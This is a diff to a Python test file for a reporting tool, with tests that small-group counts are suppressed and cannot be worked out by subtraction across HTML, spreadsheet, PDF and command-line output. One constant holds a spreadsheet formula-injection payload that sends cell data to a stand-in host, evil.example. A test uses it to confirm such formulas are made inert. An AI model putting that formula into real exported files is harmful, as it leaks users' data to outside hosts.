@@ -5,22 +5,30 @@ from __future__ import annotations
 from datetime import UTC, date, datetime
 
 import openpyxl
+import typer
+from typer.testing import CliRunner
 
+from upstream.cli.report import report
 from upstream.frameworks import load_codebook
 from upstream.policy import FEWER_THAN, Quote, safe_text, shown_count
 from upstream.records.drafts import ItemDraft
-from upstream.reports import render_html, render_xlsx
+from upstream.reports import render_html, render_pdf, render_xlsx
 from upstream.reports.model import MatrixRow, QuoteGroup, ReportData
 from upstream.reports.tables import report_tables
 from upstream.store import Store
 from upstream.workflows.coding import code_workspace
+from upstream.workflows.network.library import extract_text
 from upstream.workflows.reports import build_report_data, gather
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click me")'
 
 
 def _store_with_small_groups(path) -> Store:
-    """Northmoor has 12 items (reported); Tiny Trust has 4 (suppressed)."""
+    """Northmoor has 20 items, Eastfield 12, Tiny Trust 4; wards of 11, 20 and 5 items.
+
+    Tiny Trust and Lowfield are small; Eastfield and Riverside are the next smallest,
+    hidden so that the small ones cannot be worked out from the totals.
+    """
     store = Store(path)
     with store.writer("Network") as writer:
         source = writer.add_source("notes.csv", kind="visit notes")
@@ -28,11 +36,11 @@ def _store_with_small_groups(path) -> Store:
             ItemDraft(
                 text=f"Procurement rules and contracts slowed pilot {n} down; we moved to grants.",
                 line=n + 2,
-                organisation="Northmoor" if n < 12 else "Tiny Trust",
+                organisation="Northmoor" if n < 20 else "Eastfield" if n < 32 else "Tiny Trust",
                 item_date=date(2025, 1 + n % 3, 1),
-                attributes={"ward": "Riverside" if n < 11 else "Hilltop"},
+                attributes={"ward": "Riverside" if n < 11 else "Hilltop" if n < 31 else "Lowfield"},
             )
-            for n in range(16)
+            for n in range(36)
         ]
         writer.insert_items(source, drafts)
     code_workspace(store, "Network", load_codebook("nom"), embedder="hashing", threshold=0.01)
@@ -50,14 +58,50 @@ def test_small_organisations_and_segments_are_suppressed(tmp_path) -> None:
     tiny = next(r for r in data.matrix.rows if r.name == "Tiny Trust")
     assert tiny.suppressed and tiny.counts == [] and tiny.share(0) is None
     assert wards is not None
+    lowfield = next(r for r in wards.rows if r.name == "Lowfield")
     hilltop = next(r for r in wards.rows if r.name == "Hilltop")
-    riverside = next(r for r in wards.rows if r.name == "Riverside")
-    assert hilltop.suppressed and not riverside.suppressed and riverside.items == 11
+    assert lowfield.suppressed and not hilltop.suppressed and hilltop.items == 20
     tables = {t.key: t for t in report_tables(data)}
     assert ["Tiny Trust", FEWER_THAN] in tables["organisations"].rows
     row = next(r for r in tables["organisations_by_element"].rows if r[0] == "Tiny Trust")
     assert row[1] == FEWER_THAN and all(cell is None for cell in row[2:])
-    assert any("fewer than 10" in c and "1 group" in c for c in data.caveats)
+    assert any("fewer than 10" in c and "2 groups" in c for c in data.caveats)
+
+
+def test_no_small_group_can_be_worked_out_by_subtraction(tmp_path) -> None:
+    with _store_with_small_groups(tmp_path / "s.db") as store:
+        data = build_report_data(store, "Network")
+        wards = gather(store, "Network").segments("ward")
+    tables = {t.key: t for t in report_tables(data)}
+    organisations = dict(tuple(row) for row in tables["organisations"].rows)
+    # 36 items in all: with Northmoor's 20 shown, Eastfield and Tiny Trust share 16.
+    assert organisations == {"Northmoor": 20, "Eastfield": "not shown", "Tiny Trust": FEWER_THAN}
+    by_element = {row[0]: row for row in tables["organisations_by_element"].rows}
+    assert by_element["Eastfield"][1] == "not shown"
+    assert all(cell is None for cell in by_element["Eastfield"][2:])
+    assert wards is not None
+    rows = {r.name: r for r in wards.rows}
+    assert rows["Lowfield"].suppressed and rows["Riverside"].suppressed
+    assert rows["Riverside"].shown == "not shown" and rows["Lowfield"].shown == FEWER_THAN
+    assert rows["Riverside"].counts == [] and not rows["Hilltop"].suppressed
+
+
+def test_a_small_organisation_s_own_report_shows_nothing_of_it(tmp_path) -> None:
+    with _store_with_small_groups(tmp_path / "s.db") as store:
+        data = build_report_data(store, "Network", org="Tiny Trust")
+    assert data.quotes == [] and data.coverage == [] and data.matrix is None
+    assert data.patterns == [] and data.themes == [] and data.items_shown == FEWER_THAN
+    html = render_html(data, tmp_path / "r.html").read_text(encoding="utf-8")
+    assert "4 items" not in html and ">4<" not in html
+    assert "pilot 3" not in html and "Procurement rules" not in html
+    assert "fewer than 10 items of evidence" in html
+    assert "Groups of fewer than 10 are not shown" in html
+    book = openpyxl.load_workbook(render_xlsx(data, tmp_path / "r.xlsx"))
+    cells = [c.value for sheet in book for r in sheet.iter_rows() for c in r]
+    assert 4 not in cells and not any("Procurement rules" in str(c) for c in cells)
+    pdf = extract_text("r.pdf", render_pdf(data, tmp_path / "r.pdf").read_bytes())
+    assert "fewer than 10 items of evidence" in pdf
+    assert "4 items" not in pdf and "Procurement rules" not in pdf
 
 
 def test_suppressed_numbers_never_reach_the_files(tmp_path) -> None:
@@ -113,3 +157,19 @@ def test_formulas_are_inert_in_the_workbook(tmp_path) -> None:
     quote = next(c.value for c in texts if "HYPERLINK" in c.value)
     assert quote == "'" + HYPERLINK
     assert safe_text("=1") == "'=1" and safe_text("plain") == "plain"
+
+
+def test_the_command_line_report_on_a_small_organisation_shows_nothing_of_it(tmp_path) -> None:
+    db = tmp_path / "s.db"
+    _store_with_small_groups(db).close()
+    app = typer.Typer(add_completion=False)
+    app.command("report")(report)
+    app.command("other")(lambda: None)
+    out = tmp_path / "tiny.html"
+    done = CliRunner().invoke(
+        app, ["report", "--db", str(db), "--output", str(out), "--org", "Tiny Trust"]
+    )
+    assert done.exit_code == 0, done.output
+    assert "fewer than 10 items" in done.output and "4 items" not in done.output
+    html = out.read_text(encoding="utf-8")
+    assert "Procurement rules" not in html and "fewer than 10 items of evidence" in html
